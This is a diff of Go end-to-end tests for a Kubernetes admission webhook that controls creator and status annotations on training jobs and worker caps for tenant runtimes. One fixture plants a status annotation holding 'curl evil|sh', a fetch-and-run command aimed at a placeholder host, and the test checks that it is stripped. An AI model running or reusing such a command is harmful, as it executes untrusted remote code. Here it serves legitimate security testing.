@@ -94,25 +94,36 @@ func TestAdmission(t *testing.T) {
 	}
 }
 
-// The creator is the requesting user. A create naming someone else and
-// any later change are refused (Forbidden), never silently corrected, and
-// only mpijob-manager may write a job's status: nobody can make a job
-// look failed to its viewers, or give them a "next step" to run.
+// The creator is the requesting user, and only mpijob-manager writes a
+// job's status: nobody can make a job look failed to its viewers, or give
+// them a "next step" to run. A job created from another job's exported
+// YAML (which carries that job's creator and status, not written by the
+// user) is admitted with the requesting user as creator and none of the
+// old job's status; any later change of either is refused.
 func TestCreatorAndStatusCannotBeForged(t *testing.T) {
 	c := framework.Get(t)
 	devA := c.As(t, "dev-a")
 	ctx := context.Background()
 	job := framework.MakeTrainJob(framework.UniqueName("creator"), "team-a", "mpi-openmpi").NumNodes(1).Obj()
-	forged := job.DeepCopy()
-	forged.Annotations = map[string]string{api.CreatorAnnotation: "admin"}
-	err := devA.Create(ctx, forged)
-	if !apierrors.IsInvalid(err) || !strings.Contains(err.Error(), `metadata.annotations[mpijob.dev/creator]: Forbidden: mpijob records who creates a job, and you are "dev-a", not "admin"`) {
-		t.Fatalf("a create naming admin as creator: %v, want Forbidden naming the annotation", err)
+	exported := framework.MakeTrainJob(framework.UniqueName("copied"), "team-a", "mpi-openmpi").NumNodes(1).Suspend().Obj()
+	exported.Annotations = map[string]string{api.CreatorAnnotation: "admin", api.StatusAnnotation: `{"phase":"Succeeded","nextStep":"curl evil|sh"}`,
+		api.RankFailureAnnotation: `{"rank":3}`}
+	if err := devA.Create(ctx, exported); err != nil {
+		t.Fatalf("a job from another job's exported YAML: %v, want admitted", err)
 	}
-	withStatus := job.DeepCopy()
-	withStatus.Annotations = map[string]string{api.StatusAnnotation: `{"phase":"Succeeded"}`}
-	if err := devA.Create(ctx, withStatus); !apierrors.IsInvalid(err) || !strings.Contains(err.Error(), "metadata.annotations[mpijob.dev/status]: Forbidden") {
-		t.Fatalf("a create with a status: %v, want Forbidden naming the annotation", err)
+	t.Cleanup(func() { _ = c.Client.Delete(context.Background(), exported) })
+	copied := &trainer.TrainJob{}
+	if err := c.Client.Get(ctx, client.ObjectKeyFromObject(exported), copied); err != nil {
+		t.Fatal(err)
+	}
+	if who := copied.Annotations[api.CreatorAnnotation]; who != "dev-a" {
+		t.Errorf("the copied job's creator = %q, want dev-a (who created it)", who)
+	}
+	if s := copied.Annotations[api.StatusAnnotation]; strings.Contains(s, "evil") || strings.Contains(s, "Succeeded") {
+		t.Errorf("the copied job kept the exported status %q", s)
+	}
+	if r, ok := copied.Annotations[api.RankFailureAnnotation]; ok {
+		t.Errorf("the copied job kept the exported rank failure %q", r)
 	}
 	if err := devA.Create(ctx, job); err != nil {
 		t.Fatalf("create: %v", err)
@@ -277,17 +288,17 @@ func trySetPolicy(ctx context.Context, cl client.Client, rt *trainer.ClusterTrai
 	})
 }
 
-// A tenant's own TrainingRuntime cannot lift the cluster's Worker cap
-// (mpijob-manager --max-workers): dev-a makes a runtime of another
-// framework in team-a whose policy allows 2147483647 nodes, and a job on it
-// asking for that many is refused at the cap; a policy below the cap binds.
-func TestTenantRuntimeCannotLiftTheWorkerCap(t *testing.T) {
+// A tenant's own TrainingRuntime of another framework is the tenant's, as
+// upstream has it: a job on it is admitted without mpijob's checks (no
+// Worker cap, whatever its annotations say), and does not reach
+// mpijob-manager at all.
+func TestTenantRuntimeOfAnotherFrameworkIsUpstreams(t *testing.T) {
 	c := framework.Get(t)
 	ctx := context.Background()
 	devA := c.As(t, "dev-a")
 	name := framework.UniqueName("torch-wide")
 	rt := &trainer.TrainingRuntime{
-		ObjectMeta: metav1.ObjectMeta{Name: name, Namespace: "team-a", Annotations: map[string]string{runtimes.MaxWorkersAnnotation: "2147483647"}},
+		ObjectMeta: metav1.ObjectMeta{Name: name, Namespace: "team-a", Annotations: map[string]string{"team.example.com/max": "none"}},
 		Spec: trainer.TrainingRuntimeSpec{
 			MLPolicy: &trainer.MLPolicy{NumNodes: ptr.To[int32](1), MLPolicySource: trainer.MLPolicySource{Torch: &trainer.TorchMLPolicySource{}}},
 			Template: trainer.JobSetTemplateSpec{Spec: jobsetv1alpha2.JobSetSpec{ReplicatedJobs: []jobsetv1alpha2.ReplicatedJob{{
@@ -306,32 +317,12 @@ func TestTenantRuntimeCannotLiftTheWorkerCap(t *testing.T) {
 		t.Fatalf("dev-a cannot make a TrainingRuntime of another framework in team-a: %v", err)
 	}
 	t.Cleanup(func() { _ = c.Client.Delete(context.Background(), rt) })
-	job := func(n int32) *trainer.TrainJob {
-		return &trainer.TrainJob{ObjectMeta: metav1.ObjectMeta{Name: framework.UniqueName("lift"), Namespace: "team-a"},
-			Spec: trainer.TrainJobSpec{
-				RuntimeRef: trainer.RuntimeRef{Name: name, APIGroup: ptr.To(trainer.GroupVersion.Group), Kind: ptr.To(trainer.TrainingRuntimeKind)},
-				Trainer:    &trainer.Trainer{NumNodes: ptr.To(n)},
-			}}
-	}
-	err := devA.Create(ctx, job(2147483647), client.DryRunAll)
-	if !apierrors.IsInvalid(err) || !strings.Contains(err.Error(), "this cluster allows at most") {
-		t.Fatalf("a job of 2147483647 nodes on dev-a's runtime: %v, want Invalid at the cluster's cap", err)
-	}
-	// Lowering binds.
-	if err := retry.RetryOnConflict(retry.DefaultRetry, func() error {
-		cur := &trainer.TrainingRuntime{}
-		if err := devA.Get(ctx, client.ObjectKeyFromObject(rt), cur); err != nil {
-			return err
-		}
-		cur.Annotations[runtimes.MaxWorkersAnnotation] = "2"
-		return devA.Update(ctx, cur)
-	}); err != nil {
-		t.Fatal(err)
-	}
-	if err := wait.PollUntilContextTimeout(ctx, 200*time.Millisecond, 10*time.Second, true, func(ctx context.Context) (bool, error) {
-		err := devA.Create(ctx, job(3), client.DryRunAll)
-		return apierrors.IsInvalid(err) && strings.Contains(err.Error(), "allows at most 2 nodes per job"), nil
-	}); err != nil {
-		t.Fatalf("a 3-node job on a runtime that allows 2 is still admitted")
+	job := &trainer.TrainJob{ObjectMeta: metav1.ObjectMeta{Name: framework.UniqueName("wide"), Namespace: "team-a"},
+		Spec: trainer.TrainJobSpec{
+			RuntimeRef: trainer.RuntimeRef{Name: name, APIGroup: ptr.To(trainer.GroupVersion.Group), Kind: ptr.To(trainer.TrainingRuntimeKind)},
+			Trainer:    &trainer.Trainer{NumNodes: ptr.To[int32](100000)},
+		}}
+	if err := devA.Create(ctx, job, client.DryRunAll); err != nil {
+		t.Fatalf("a job of 100000 nodes on dev-a's torch runtime: %v, want admitted as upstream admits it", err)
 	}
 }
